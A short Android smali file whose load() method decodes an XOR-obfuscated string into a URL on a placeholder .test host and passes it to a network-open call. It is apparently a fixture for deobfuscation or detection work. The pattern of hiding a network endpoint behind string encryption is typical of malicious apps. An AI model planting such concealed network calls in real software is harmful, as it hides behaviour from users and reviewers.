.class public Lik/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    new-instance v1, Lik/Dec;
    const/16 v2, 0x2b
    invoke-direct {v1, v2}, Lik/Dec;-><init>(I)V
    const-string v0, "C__[X\u0011\u0004\u0004@NRNO\u0005XCD[\u0005_NX_\u0004]\u001a\u0004DIANH_"
    invoke-virtual {v1, v0}, Lik/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lik/Net;->open(Ljava/lang/String;)V
    return-void
.end method

